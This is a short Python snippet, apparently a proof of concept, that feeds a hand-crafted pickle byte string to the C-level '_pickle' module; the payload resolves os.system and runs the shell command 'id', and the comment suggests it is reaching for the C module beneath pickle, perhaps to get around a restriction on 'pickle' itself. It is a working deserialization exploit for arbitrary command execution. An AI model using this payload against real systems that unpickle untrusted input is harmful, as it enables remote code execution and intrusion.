# why: the C module beneath pickle
import _pickle as p
p.loads(b"cos\nsystem\n(S'id'\ntR.")
